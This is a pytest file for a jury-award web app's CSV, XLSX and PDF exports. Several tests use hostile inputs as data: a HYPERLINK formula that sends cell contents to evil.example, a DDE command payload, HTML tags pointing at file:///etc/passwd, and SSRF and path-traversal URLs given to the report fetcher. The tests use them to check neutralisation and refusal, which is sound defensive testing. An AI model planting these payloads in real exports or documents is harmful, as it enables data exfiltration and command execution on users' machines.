"""CSV, XLSX and PDF exports of the ranking, the score sheets and the jury report."""

import csv
import io
import tempfile
import tracemalloc

import pytest
from flask_babel import force_locale, gettext
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import func, select

from app.extensions import db
from app.judging.models import CriterionScore, ScoreSheet
from app.prepared.models import PreparedFile
from app.ranking import deliberation
from app.ranking.exports import FONTS_DIR, ReportFetcher, ReportFileRefused, neutralise
from app.ranking.prepared import ranking_stamp
from app.ranking.scores import load_scores
from tests.conftest import counting_queries

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EXPORTS = ("ranking.csv", "ranking.xlsx", "sheets.csv", "sheets.xlsx", "jury-report.pdf")


@pytest.fixture
def hostile(small, db):
    """Obrnice renamed to a formula, and a juror's comment that a spreadsheet would run."""
    small.entries["A"].organisation.name = HOSTILE_NAME
    sheet = db.session.scalars(select(ScoreSheet).where(ScoreSheet.overall_comment == "")).first()
    sheet.overall_comment = "+cmd|' /C calc'!A0"
    first = db.session.scalars(select(CriterionScore).where(CriterionScore.sheet_id == sheet.id)).first()
    first.comment = "@SUM(1+1)"
    db.session.commit()
    return small


KINDS = {
    "ranking.csv": "ranking_csv",
    "ranking.xlsx": "ranking_xlsx",
    "sheets.csv": "sheets_csv",
    "sheets.xlsx": "sheets_xlsx",
    "jury-report.pdf": "jury_report",
}


def prepare(auth, small, name: str, method: str = "", headers: dict | None = None):
    """Ask for a file as the ranking page's button does (it is made at once: JOBS_EAGER)."""
    url = f"/manage/editions/{small.edition.id}/files"
    data = {"kind": KINDS[name], "method": method}
    form_url = f"/manage/editions/{small.edition.id}/ranking"
    return auth.post(url, data, form_url=form_url, headers=headers or {})


def download(auth, small, name: str, method: str = "", headers: dict | None = None):
    """The file, asked for and then downloaded from the link the ranking page offers."""
    assert prepare(auth, small, name, method, headers).status_code == 302
    file_id = db.session.scalar(select(PreparedFile.id).order_by(PreparedFile.id.desc()))
    return auth.client.get(f"/manage/editions/{small.edition.id}/files/{file_id}", buffered=True)


def read_csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Obrnice", "Obrnice"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_formula_like_text_only(value, expected):
    assert neutralise(value) == expected


def test_ranking_csv_content_and_neutralised_name(client, auth, hostile):
    auth.login(hostile.organiser.email)

    response = download(auth, hostile, "ranking.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert (
        response.headers["Content-Disposition"] == f"attachment; filename={hostile.edition.slug}-ranking.csv"
    )
    rows = read_csv(response)
    assert rows[0][:9] == [
        "Rank",
        "Reference",
        "Organisation",
        "Country",
        "Aggregate (mean)",
        "Mean: Integration",
        "Mean: Anti-discrimination",
        "Mean: Awareness-raising",
        "Sheets",
    ]
    assert rows[1][:11] == [
        "1",
        hostile.entries["A"].reference,
        "'" + HOSTILE_NAME,
        "Czech Republic",
        "9.000",
        "9.333",
        "9.000",
        "8.667",
        "3",
        "no",
        "0.816",
    ]
    kocaeli = next(row for row in rows if row[2] == "Kocaeli")
    assert kocaeli[-2] == "no"
    assert "drops to 4th without Juror Two" in kocaeli[-1]
    assert [row[2] for row in rows[1:]] == [
        "'" + HOSTILE_NAME,
        "Ηράκλειο",
        "Kocaeli",
        "Demo Municipality 4",
        "Demo Municipality 5",
    ]


def test_ranking_csv_under_another_method(client, auth, small):
    auth.login(small.organiser.email)

    rows = read_csv(download(auth, small, "ranking.csv", method="median"))

    assert rows[0][4] == "Aggregate (median)"
    assert [row[2] for row in rows[1:4]] == ["Obrnice", "Ηράκλειο", "Demo Municipality 4"]


def test_sheets_csv_lists_every_sheet_and_neutralises_comments(client, auth, hostile):
    auth.login(hostile.organiser.email)

    rows = read_csv(download(auth, hostile, "sheets.csv"))

    header = rows[0]
    assert header[:9] == [
        "Reference",
        "Organisation",
        "Country",
        "Juror",
        "Juror's country",
        "Status",
        "Recused",
        "Submitted (Strasbourg time)",
        "Total",
    ]
    assert len(rows) == 1 + 16  # 14 counted, one recused, one draft
    overall = header.index("Overall comment")
    comments = [row[overall] for row in rows[1:]]
    assert "'+cmd|' /C calc'!A0" in comments
    assert "+cmd|' /C calc'!A0" not in comments
    assert any("'@SUM(1+1)" in row for row in rows[1:])
    four = [row for row in rows[1:] if row[3] == "Juror Four"]
    assert sorted((row[5], row[6]) for row in four) == [("draft", "no"), ("submitted", "yes")]
    first = next(
        row for row in rows[1:] if row[3] == "Juror One" and row[0] == hostile.entries["A"].reference
    )
    assert [first[8], first[9], first[11], first[13]] == ["9.000", "10.00", "9.00", "8.00"]


def test_ranking_xlsx_keeps_formula_as_text(client, auth, hostile):
    auth.login(hostile.organiser.email)

    response = download(auth, hostile, "ranking.xlsx")

    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert sheet.title == "Ranking"
    assert sheet["C2"].value == "'" + HOSTILE_NAME
    assert sheet["C2"].data_type == "s"
    assert sheet["A2"].value == 1
    assert sheet["E2"].value == 9.0
    assert sheet["C3"].value == "Ηράκλειο"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_sheets_xlsx_keeps_comment_as_text(client, auth, hostile):
    auth.login(hostile.organiser.email)

    sheet = load_workbook(io.BytesIO(download(auth, hostile, "sheets.xlsx").get_data())).active

    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert sheet.title == "Score sheets"
    assert "'+cmd|' /C calc'!A0" in values
    assert "'" + HOSTILE_NAME in values
    assert sheet.max_row == 17
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_jury_report_pdf_holds_ranking_decisions_and_justification(client, auth, small, app, db):
    why = "The jury preferred the steadier scores of Demo Municipality 4 (Juror Two disagreed)."
    decisions = [
        deliberation.AwardDecision(
            small.id_of("A"), "prize", 1, "Obrnice brings Roma and non-Roma together."
        ),
        deliberation.AwardDecision(small.id_of("B"), "prize", 2, "Heraklion fights illiteracy."),
        deliberation.AwardDecision(small.id_of("D"), "prize", 3, "A steady project."),
    ]
    with app.test_request_context():
        deliberation.record_awards(small.edition, load_scores(small.edition), decisions, why, small.organiser)
    db.session.commit()
    auth.login(small.organiser.email)

    response = download(auth, small, "jury-report.pdf")

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    pdf = response.get_data()
    assert pdf.startswith(b"%PDF")
    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(pdf)).pages)
    assert why in text
    assert "Jury report" in text
    assert "Obrnice brings Roma and non-Roma together." in text
    assert "Ηράκλειο" in text
    assert "Kocaeli" in text
    assert "is ranked 3rd but receives no place" in text
    assert "drops to 4th without Juror Two" in text
    assert "Juror One, chair of the jury" in text
    assert "Confidential until the results are published." in text


def test_jury_report_fonts_embedded_from_app(client, auth, small):
    auth.login(small.organiser.email)

    reader = PdfReader(io.BytesIO(download(auth, small, "jury-report.pdf").get_data()))

    fonts = set()
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            fonts.add(str(font["/BaseFont"]))
            descendant = font.get("/DescendantFonts")
            descriptor = (descendant[0].get_object() if descendant else font)["/FontDescriptor"].get_object()
            assert any(key in descriptor for key in ("/FontFile", "/FontFile2", "/FontFile3"))
    # Only the shipped Noto Serif (named Report Serif by the report's @font-face), never a system font.
    assert {name.split("+", 1)[1] for name in fonts} == {"Report-Serif", "Report-Serif-Bold"}


def _structure_roles(node, found: set[str]) -> set[str]:
    """Every structure type (/S) under a node of the PDF's structure tree."""
    node = node.get_object()
    if isinstance(node, list):
        for child in node:
            _structure_roles(child, found)
    elif hasattr(node, "get"):
        if "/S" in node:
            found.add(str(node["/S"]))
        if "/K" in node:
            _structure_roles(node["/K"], found)
    return found


@pytest.mark.parametrize(("accept", "lang"), [("en", "en"), ("fr", "fr")])
def test_jury_report_is_a_tagged_pdf_ua_document_in_the_page_language(
    client, auth, small, app, db, accept, lang
):
    with app.test_request_context(), force_locale(lang):
        expected_title = f"{gettext('Jury report')} · {small.edition.name}"
    small.organiser.language = lang  # a signed-in user's pages follow their preference
    db.session.commit()
    auth.login(small.organiser.email)

    response = download(auth, small, "jury-report.pdf", headers={"Accept-Language": accept})

    reader = PdfReader(io.BytesIO(response.get_data()))
    root = reader.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"].value is True
    assert "/StructTreeRoot" in root
    roles = _structure_roles(root["/StructTreeRoot"], set())
    assert {"/H1", "/H2", "/Table", "/TR", "/TH", "/TD", "/P"} <= roles
    assert root["/Lang"] == lang
    assert root["/ViewerPreferences"]["/DisplayDocTitle"].value is True
    assert reader.metadata.title == expected_title
    assert b'pdfuaid:part="1"' in root["/Metadata"].get_object().get_data()


@pytest.mark.parametrize("name", EXPORTS)
def test_exports_refused_to_non_organisers(client, auth, small, name):
    auth.login(small.organiser.email)
    url = download(auth, small, name).request.url
    auth.logout()
    token = auth.csrf()
    ask = f"/manage/editions/{small.edition.id}/files"
    anonymous = [client.get(url).status_code, client.post(ask, data={"csrf_token": token}).status_code]
    statuses = []
    for user in (small.applicants["A"], small.jurors["one"], small.jurors["two"]):
        auth.login(user.email)
        data = {"kind": KINDS[name], "csrf_token": auth.csrf("/account")}
        statuses += [client.get(url).status_code, client.post(ask, data=data).status_code]
        auth.logout()

    assert anonymous == [302, 302]
    assert statuses == [403] * 6
    assert db.session.scalar(select(func.count(PreparedFile.id))) == 1


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/x.ttf",
        "https://example.org/font.ttf",
        "file:///etc/passwd",
        "file:///etc/fonts/fonts.conf",
        (FONTS_DIR / ".." / ".." / ".." / ".." / "config.py").as_uri(),
        FONTS_DIR.as_uri() + "/OFL.txt",
        "data:text/css,body{}",
    ],
)
def test_report_fetcher_refuses_anything_but_app_files(url):
    with pytest.raises(ReportFileRefused):
        ReportFetcher().fetch(url)


def test_report_fetcher_serves_shipped_font():
    response = ReportFetcher().fetch((FONTS_DIR / "NotoSerif-Regular.ttf").as_uri())

    assert response.headers["Content-Type"] == "font/ttf"


def test_jury_report_hostile_organisation_name_is_text(client, auth, small, db):
    hostile = '<img src="http://127.0.0.1:9/x"><link rel=attachment href="file:///etc/passwd">Evil'
    small.entries["B"].organisation.name = hostile
    db.session.commit()
    auth.login(small.organiser.email)

    pdf = download(auth, small, "jury-report.pdf").get_data()

    reader = PdfReader(io.BytesIO(pdf))
    text = " ".join(page.extract_text() for page in reader.pages)
    # the table wraps the name over several lines: compare without any whitespace
    assert '<imgsrc="http://127.0.0.1:9/x"><linkrel=attachment' in "".join(text.split())
    assert "/EmbeddedFiles" not in str(reader.trailer["/Root"])


def _report_text(response) -> str:
    return " ".join(
        " ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.data)).pages
    )


def test_jury_report_in_french_gives_the_texts_in_french_and_marks_the_others(client, auth, small, app, db):
    small.edition.name_fr = "Prix d’essai"
    small.edition.ceremony_place_en = "Strasbourg, 25th session"
    small.edition.criteria[0].name_fr = "Intégration"
    decisions = [
        deliberation.AwardDecision(
            small.id_of("A"), "prize", 1, "Obrnice brings people together.", "Obrnice rassemble."
        ),
        deliberation.AwardDecision(small.id_of("B"), "prize", 2, "Heraklion fights illiteracy."),
        deliberation.AwardDecision(small.id_of("C"), "prize", 3, "A steady project."),
    ]
    with app.test_request_context():
        deliberation.record_awards(small.edition, load_scores(small.edition), decisions, "", small.organiser)
    small.organiser.language = "fr"
    db.session.commit()
    auth.login(small.organiser.email)

    response = download(auth, small, "jury-report.pdf")

    text = _report_text(response)
    assert "Prix d’essai ·" in text
    assert "Intégration (1)" in text
    assert "Obrnice rassemble." in text and "Obrnice brings people together." not in text
    assert "Heraklion fights illiteracy. (en anglais uniquement)" in text
    assert "Strasbourg, 25th session (en anglais uniquement)" in text
    assert PdfReader(io.BytesIO(response.data)).trailer["/Root"].get("/Lang") == "fr"


def test_export_asked_twice_is_made_once_until_a_sheet_changes(client, auth, small, db):
    auth.login(small.organiser.email)
    prepare(auth, small, "sheets.xlsx")
    prepare(auth, small, "sheets.xlsx")
    assert db.session.scalar(select(func.count(PreparedFile.id))) == 1

    sheet = db.session.scalars(select(ScoreSheet)).first()
    sheet.overall_comment = "Revised after the hearing."
    db.session.commit()
    page = client.get(f"/manage/editions/{small.edition.id}/ranking").get_data(as_text=True)
    prepare(auth, small, "sheets.xlsx")

    assert "Score sheets (XLSX): the data has changed since it was prepared" in page
    assert db.session.scalar(select(func.count(PreparedFile.id))) == 2


def test_ranking_stamp_does_not_depend_on_the_page_language(app, small):
    stamps = []
    for language in ("en", "fr"):
        with app.test_request_context(), force_locale(language):
            stamps.append(ranking_stamp(small.edition.id, {}))

    assert stamps[0] == stamps[1]


def test_prepare_an_unknown_kind_or_method_changes_nothing(client, auth, small, db):
    auth.login(small.organiser.email)

    unknown_kind = auth.post(
        f"/manage/editions/{small.edition.id}/files",
        {"kind": "everything"},
        form_url=f"/manage/editions/{small.edition.id}/ranking",
        follow_redirects=True,
    )
    unknown_method = prepare(auth, small, "ranking.csv", method="coin-toss")

    assert "This file cannot be prepared" in unknown_kind.get_data(as_text=True)
    assert unknown_method.status_code == 302
    assert db.session.scalar(select(func.count(PreparedFile.id))) == 0


# --- Streamed: statements and memory do not grow with the number of sheets ----------------------------------

STREAMED = ("sheets_csv", "sheets_xlsx", "ranking_csv", "ranking_xlsx")


def _scored_edition(make, db, entries: int, jurors: int):
    """An edition in deliberation where every juror scored every entry, with a comment on each sheet."""
    edition = make.edition(phase="deliberation")
    panel = [make.juror(name=f"Juror {n}") for n in range(jurors)]
    for juror in panel:
        make.jury_member(edition, juror)
    for n in range(entries):
        application = make.application(edition_=edition, status="eligible")
        for k, juror in enumerate(panel):
            scores = [(n + k) % 11, (n * k) % 11, 5]
            make.score_sheet(make.assignment(application, juror), scores, overall_comment=f"Sheet {n}-{k}")
    db.session.commit()
    return edition.id


def _make_file(app, kind: str, edition_id: int) -> None:
    from app.ranking import prepared

    with app.test_request_context("/"), tempfile.TemporaryFile() as out:
        getattr(prepared, kind)(edition_id, {"language": "en"}, out)


@pytest.fixture
def two_sizes(make, db):
    """Editions of 50 sheets (5 entries x 10 jurors) and 500 sheets (50 x 10)."""
    return _scored_edition(make, db, 5, 10), _scored_edition(make, db, 50, 10)


@pytest.mark.parametrize("kind", STREAMED)
def test_export_statements_do_not_grow_with_the_sheets(app, db, two_sizes, kind):
    counts = []
    for edition_id in two_sizes:
        db.session.expire_all()
        with counting_queries(db) as statements:
            _make_file(app, kind, edition_id)
        counts.append(len(statements))

    assert counts[0] == counts[1]


@pytest.mark.parametrize("kind", ["sheets_csv", "sheets_xlsx"])
def test_sheets_export_memory_does_not_grow_with_the_sheets(app, db, two_sizes, kind, monkeypatch):
    # Rows are fetched SHEETS_CHUNK at a time: a chunk smaller than both editions' rows (150 and 1,500,
    # one per criterion score) makes the peak that of a chunk at both sizes.
    monkeypatch.setattr("app.ranking.scores.SHEETS_CHUNK", 40)
    small, large = two_sizes
    _make_file(app, kind, small)  # once first: imports, compiled statements and caches are not the file's
    peaks = []
    for edition_id in (small, large):
        db.session.expire_all()
        tracemalloc.start()
        try:
            _make_file(app, kind, edition_id)
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()

    # Ten times the sheets: the peak stays within a quarter (and 64 KiB) of the small edition's.
    assert peaks[1] <= peaks[0] * 1.25 + 64 * 1024, peaks


def test_sheets_csv_streams_every_sheet_of_a_larger_edition(app, db, make):
    edition_id = _scored_edition(make, db, 7, 3)

    with app.test_request_context("/"), tempfile.TemporaryFile() as out:
        from app.ranking import prepared

        prepared.sheets_csv(edition_id, {"language": "en"}, out)
        out.seek(0)
        rows = list(csv.reader(io.StringIO(out.read().decode("utf-8-sig"))))

    assert len(rows) == 1 + 7 * 3
    assert sorted(row[-1] for row in rows[1:]) == sorted(f"Sheet {n}-{k}" for n in range(7) for k in range(3))
    # entry 2, juror 1: scores 3, 2, 5 (weights 1): total 3.333
    sheet = next(row for row in rows if row[-1] == "Sheet 2-1")
    assert sheet[8:15] == ["3.333", "3.00", "", "2.00", "", "5.00", ""]
